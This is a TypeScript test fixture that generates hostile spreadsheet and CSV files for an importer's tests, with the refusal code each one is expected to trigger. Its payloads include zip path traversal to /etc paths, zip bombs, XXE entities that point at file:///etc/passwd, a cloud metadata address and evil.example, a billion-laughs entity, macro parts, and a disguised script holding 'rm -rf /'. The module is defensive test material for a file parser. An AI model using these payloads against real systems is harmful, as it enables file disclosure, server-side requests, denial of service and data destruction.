import { workbookParts } from '../../libs/sources/src/testing/a-workbook';
import { rawZip, type RawEntry, type RawZip } from './raw-zip';

/** A file somebody made to do harm, or that is not what it says; and how it must be refused. */
export interface HostileFile {
  readonly about: string;
  readonly name: string;
  /** Made only when it is its turn: all of them together would fill memory. */
  readonly bytes: () => Buffer;
  readonly refusal: RegExp;
}

const SECRET = 'Nguyễn Thị Bí Mật';
const SHEET = 'xl/worksheets/sheet0.xml';
const BOOK = 'xl/workbook.xml';
const RELATIONS = 'xl/_rels/workbook.xml.rels';
const TYPES = '[Content_Types].xml';
const STYLES = 'xl/styles.xml';
const STRINGS = 'xl/sharedStrings.xml';
const XML_PARTS = [SHEET, BOOK, RELATIONS, '_rels/.rels', TYPES, STYLES, STRINGS];
const MAIN = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';

/** An honest register of one petition, with its texts in the table of shared strings. */
function honest(): Map<string, string | Buffer> {
  const rows = [
    ['Số đơn', 'Họ tên'],
    ['A1', SECRET],
  ];
  const parts = new Map<string, string | Buffer>(workbookParts({ name: 'Sổ', rows }));
  const relation = `<Relationship Id="ss" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>`;
  parts.set(RELATIONS, String(parts.get(RELATIONS)).replace('</Relationships>', relation));
  return parts.set(STRINGS, `<sst xmlns="${MAIN}"><si><t>x</t></si></sst>`);
}

function zipped(parts: ReadonlyMap<string, string | Buffer>, more: Partial<RawZip> = {}): Buffer {
  const entries = [...parts].map(([name, content]) => ({ name, content }));
  return rawZip({ ...more, entries: [...entries, ...(more.entries ?? [])] });
}

function file(about: string, refusal: RegExp, bytes: () => Buffer, name = 'so.xlsx'): HostileFile {
  return { about, name, bytes, refusal };
}

/** The honest register with one part changed. */
function changed(about: string, refusal: RegExp, part: string, change: (xml: string) => string): HostileFile {
  return file(about, refusal, () => {
    const parts = honest();
    return zipped(parts.set(part, change(String(parts.get(part)))));
  });
}

/** The honest register with a sheet of other rows. */
function sheet(about: string, refusal: RegExp, data: () => string, tail = ''): HostileFile {
  return changed(
    about,
    refusal,
    SHEET,
    () => `<worksheet xmlns="${MAIN}"><sheetData>${data()}</sheetData>${tail}</worksheet>`,
  );
}

function withEntries(about: string, refusal: RegExp, ...entries: readonly RawEntry[]): HostileFile {
  return file(about, refusal, () => zipped(honest(), { entries }));
}

const BAD_PATHS =
  '../evil.xml ../../../../etc/cron.d/x xl/../../evil.xml xl/worksheets/../../../x .. /etc/passwd /xl/evil.xml C:/Windows/x c:x C:\\Windows\\x ..\\..\\evil.xml \\evil';
const BAD_LETTERS = ['xl/a\u0000.xml', 'xl/a\n.xml', 'xl/\u001b[2Ja.xml', '\t'];
const NAMES = [...BAD_PATHS.split(' '), ...BAD_LETTERS].map((name) =>
  withEntries(`a part called ${JSON.stringify(name)}`, /DAMAGED/, { name }),
);

const TWICE = [SHEET, BOOK, TYPES, SHEET.toUpperCase(), 'XL/Workbook.xml'].map((name) =>
  withEntries(`two parts called ${name}`, /DAMAGED/, { name, content: '<worksheet/>' }),
);

const BIG = 20 * 1024 * 1024;
const ARCHIVES: readonly HostileFile[] = [
  withEntries('two parts with the same bytes', /BOMB/, { name: 'xl/twin.xml', offsetOf: 0 }),
  withEntries('a thousand parts with the same bytes', /BOMB/, ...same(1_000)),
  withEntries('a part that lies within another', /BOMB|DAMAGED/, { name: 'xl/in.xml', offset: 40 }),
  withEntries('a part behind the end of the file', /DAMAGED|BOMB/, {
    name: 'xl/far.xml',
    offset: 0xfffffff0,
  }),
  withEntries('a part that claims four gigabytes', /TOO_BIG|BOMB|DAMAGED/, { name: 'x', size: 0xfffffff0 }),
  withEntries('a part longer than the file', /DAMAGED|BOMB/, {
    name: 'x',
    packedSize: 0x7fffffff,
    offset: 0,
  }),
  withEntries('stored bytes of two lengths', /DAMAGED/, { name: 'x', content: 'abc', method: 0, size: 2 }),
  withEntries('a bomb of blanks', /BOMB/, { name: 'xl/b.xml', content: Buffer.alloc(BIG, 0x20) }),
  withEntries('more parts than any workbook has', /BOMB/, ...many(5_100)),
  lying('a sheet that unpacks to more than it says', { size: 20 }),
  lying('a sheet that unpacks to less than it says', { size: 900_000 }),
  lying('a sheet that is cut', { packedSize: 60 }),
  ...[1, 6, 9, 12, 14, 93, 95, 97].map((method) => lying(`a sheet packed by method ${method}`, { method })),
  { ...lying('a part under a password', { flags: 0x801 }), refusal: /ENCRYPTED/ },
  file('more parts announced than there are', /DAMAGED/, () => zipped(honest(), { count: 60 })),
  file('nothing inside', /NOT_A_WORKBOOK/, () => rawZip({ entries: [] })),
  file('another file in front', /NOT_A_WORKBOOK|DAMAGED/, () => zipped(honest(), { before: '#!/bin/sh\n' })),
  ...[0.05, 0.2, 0.35, 0.5, 0.65, 0.8, 0.95, 0.99].map((part) =>
    file(`cut after ${part * 100} %`, /DAMAGED/, () => {
      const whole = zipped(honest());
      return whole.subarray(0, Math.floor(whole.length * part));
    }),
  ),
];

function same(times: number): readonly RawEntry[] {
  return Array.from({ length: times }, (_entry, at) => ({ name: `xl/q${at}.xml`, offsetOf: 0 }));
}

function many(times: number): readonly RawEntry[] {
  return Array.from({ length: times }, (_entry, at) => ({ name: `x/${at}`, method: 0 }));
}

function lying(about: string, lie: Partial<RawEntry>): HostileFile {
  return file(about, /DAMAGED|BOMB/, () => {
    const parts = [...honest()].map(([name, content]) => ({ name, content, ...(name === SHEET ? lie : {}) }));
    return rawZip({ entries: parts });
  });
}

const LAUGHS = Array.from(
  { length: 12 },
  (_line, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`,
).join('');
const DOCTYPES: readonly (readonly [about: string, doctype: string])[] = [
  ['an empty document type', '<!DOCTYPE x>'],
  ['an entity of a file', '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'],
  ['an entity of an address', '<!DOCTYPE x [<!ENTITY e SYSTEM "http://169.254.169.254/">]>'],
  ['a parameter entity', '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>'],
  ['a billion laughs', `<!DOCTYPE x [<!ENTITY l0 "ha">${LAUGHS}]>`],
  ['an outer document type', '<!DOCTYPE x PUBLIC "-//W3C//DTD" "http://evil.example/x.dtd">'],
];
/** Just before the end of the outermost tag. */
const within = (xml: string, more: string): string =>
  xml.endsWith('/>') ? xml.replace(/\/>$/, `>${more}</Types>`) : xml.replace(/(<\/[^<]*>)$/, `${more}$1`);
const withoutHead = (xml: string): string => xml.replace(/^<\?xml[^>]*>\s*/, '');
const ENTITIES = XML_PARTS.flatMap((part) => [
  ...DOCTYPES.map(([about, doctype]) =>
    changed(`${about} in ${part}`, /DOCTYPE/, part, (xml) => doctype + withoutHead(xml)),
  ),
  changed(`an unknown entity in ${part}`, /DAMAGED/, part, (xml) => within(xml, '&e;')),
]);

const nested = (times: number): string => '<a>'.repeat(times) + '</a>'.repeat(times);
const inRow = (cell: string): string => `<row r="1">${cell}</row>`;
const run = '<r><t>aaaaaaaaaaaaaaaaaaaa</t></r>';
const XML: readonly HostileFile[] = [
  ...XML_PARTS.map((part) =>
    changed(`tags 100,000 deep in ${part}`, /BOMB/, part, (xml) => within(xml, nested(100_000))),
  ),
  ...[
    '<a>',
    '</a>',
    '<a></b>',
    '<a b>',
    '<a b="1" b="2"/>',
    '<1/>',
    '<',
    ']]>',
    '\u0000',
    '\u0001',
    '\ufffe',
  ].map((xml) => sheet(`${JSON.stringify(xml)} among the rows`, /DAMAGED/, () => xml)),
  changed('two roots', /DAMAGED/, SHEET, (xml) => `${withoutHead(xml)}<worksheet/>`),
  changed('nothing in a part', /DAMAGED/, SHEET, () => ''),
  file('bytes that are no text', /DAMAGED/, () =>
    zipped(honest().set(SHEET, Buffer.from('3c776f726b73686565743eff80c0af3c2f776f726b73686565743e', 'hex'))),
  ),
  file('bytes of UTF-16 that end in the middle', /DAMAGED/, () =>
    zipped(honest().set(SHEET, Buffer.from('fffe3c', 'hex'))),
  ),
  sheet('a cell of nine megabytes', /TOO_BIG/, () =>
    inRow(`<c t="inlineStr"><is><t>${'a'.repeat(9e6)}</t></is></c>`),
  ),
  sheet('an attribute of nine megabytes', /TOO_BIG/, () => inRow(`<c t="${'a'.repeat(9e6)}"/>`)),
  sheet('a name of nine megabytes', /TOO_BIG/, () => inRow(`<${'a'.repeat(9e6)}/>`)),
  sheet('a comment of nine megabytes', /TOO_BIG/, () => `<!--${'a'.repeat(9e6)}-->`),
  sheet('a processing instruction of nine megabytes', /TOO_BIG/, () => `<?a ${'a'.repeat(9e6)}?>`),
  sheet('a CDATA section of nine megabytes', /TOO_BIG/, () =>
    inRow(`<c><v><![CDATA[${'a'.repeat(9e6)}]]></v></c>`),
  ),
  sheet('a cell of 100,000 pieces', /TOO_BIG/, () =>
    inRow(`<c t="inlineStr"><is>${run.repeat(1e5)}</is></c>`),
  ),
  sheet('a cell at a place of 900,000 digits', /DAMAGED/, () =>
    inRow(`<c r="${'1'.repeat(9e5)}x"><v>1</v></c>`),
  ),
  sheet('merged cells without end', /DAMAGED|EMPTY|HEADER_MISSING/, () => '', '<mergeCell '.repeat(5e5)),
  sheet('600,000 merged cells', /TOO_BIG|BOMB/, () => '', '<mergeCell ref="A1:B2"/>'.repeat(6e5)),
  ...['0', '-1', '1.5', '1e9', '99999999999', 'x', '', 'NaN', 'Infinity', '1048577'].map((row) =>
    sheet(`a row numbered ${JSON.stringify(row)}`, /DAMAGED/, () => `<row r="${row}"><c><v>1</v></c></row>`),
  ),
  changed(
    'a shared text of 100,000 pieces',
    /TOO_BIG/,
    STRINGS,
    () => `<sst><si>${run.repeat(1e5)}</si></sst>`,
  ),
  changed('three million shared texts', /TOO_BIG|BOMB/, STRINGS, () => `<sst>${'<si/>'.repeat(3e6)}</sst>`),
  changed(
    'shared texts of 90 MB',
    /TOO_BIG|BOMB/,
    STRINGS,
    () => `<sst>${`<si><t>${'a'.repeat(9e5)}</t></si>`.repeat(100)}</sst>`,
  ),
  changed(
    '70,000 styles',
    /TOO_BIG/,
    STYLES,
    () => `<styleSheet><cellXfs>${'<xf/>'.repeat(7e4)}</cellXfs></styleSheet>`,
  ),
];

const MACRO_TYPE = 'application/vnd.ms-excel.sheet.macroEnabled.main+xml';
const MACROS: readonly HostileFile[] = [
  ...[
    'xl/vbaProject.bin',
    'xl/VBAPROJECT.BIN',
    'vbaProject.bin',
    'xl/macrosheets/sheet1.xml',
    'xl/MacroSheets/intlsheet1.xml',
  ].map((name) => withEntries(`a macro in ${name}`, /MACRO/, { name, content: 'x' })),
  changed('a declared macro', /MACRO/, TYPES, (xml) =>
    xml.replace('/>', `><Override ContentType="${MACRO_TYPE}"/></Types>`),
  ),
  ...['so.xlsm', 'so.xltm', 'so.xlam', 'SO.XLSM'].map((name) =>
    file(`called ${name}`, /MACRO/, () => zipped(honest()), name),
  ),
];

const HEADS: readonly (readonly [about: string, head: string])[] = [
  ['a program for Windows', '4d5a90000300000004000000ffff0000'],
  ['a program for Linux', '7f454c4602010100000000000000'],
  ['a script', Buffer.from('#!/bin/sh\nrm -rf /\n').toString('hex')],
  ['a web page', Buffer.from('<html><script>alert(1)</script>').toString('hex')],
  ['a PDF', Buffer.from('%PDF-1.7 /OpenAction').toString('hex')],
  ['a gzip file', '1f8b0800000000000003'],
  ['a 7z file', '377abcaf271c0004'],
  ['a RAR file', '526172211a070100'],
  ['a picture', '89504e470d0a1a0a'],
  ['RTF', Buffer.from('{\\rtf1\\objdata').toString('hex')],
  ['four zero bytes', '00000000'],
  ['one byte', '50'],
];
const TARGETS = [
  'http://evil.example/s.xml',
  'file:///etc/passwd',
  '\\\\evil.example\\s',
  '../../../etc/passwd',
  '/etc/passwd',
  '',
];
const OTHERS: readonly HostileFile[] = [
  ...HEADS.map(([about, head]) =>
    file(`${about} under the name of a workbook`, /NOT_A_WORKBOOK/, () => Buffer.from(head, 'hex')),
  ),
  ...['so.xlsb', 'so.ods', 'so.exe', 'so.xlsx.exe', 'so.html', 'so'].map((name) =>
    file(`called ${name}`, /OTHER_FORMAT/, () => zipped(honest()), name),
  ),
  ...TARGETS.map((target) =>
    changed(`a sheet at ${JSON.stringify(target)}`, /SHEET_MISSING/, RELATIONS, (xml) =>
      xml.replace('worksheets/sheet0.xml', target),
    ),
  ),
  changed('no workbook inside', /NOT_A_WORKBOOK/, '_rels/.rels', () => '<Relationships/>'),
  changed('a binary workbook inside', /NOT_A_WORKBOOK/, '_rels/.rels', (xml) =>
    xml.replace('xl/workbook.xml', STYLES).replace('styles.xml', 'x.bin'),
  ),
  file('a workbook under the name of a text file', /NOT_A_WORKBOOK/, () => zipped(honest()), 'so.csv'),
  file(
    'a line of nine megabytes in a text file',
    /RAGGED|QUOTE|DAMAGED|TOO_BIG/,
    () => Buffer.from(`Số đơn,Họ tên\nA1,${'a'.repeat(9e6)}\n`),
    'so.csv',
  ),
  file(
    'a quote that never ends',
    /QUOTE/,
    () => Buffer.from(`Số đơn,Họ tên\nA1,"${'a\n'.repeat(2e6)}`),
    'so.csv',
  ),
  file('zeros under the name of a text file', /./, () => Buffer.alloc(1_000_000), 'so.csv'),
];

export const HOSTILE_FILES: readonly HostileFile[] = [
  ...NAMES,
  ...TWICE,
  ...ARCHIVES,
  ...ENTITIES,
  ...XML,
  ...MACROS,
  ...OTHERS,
];
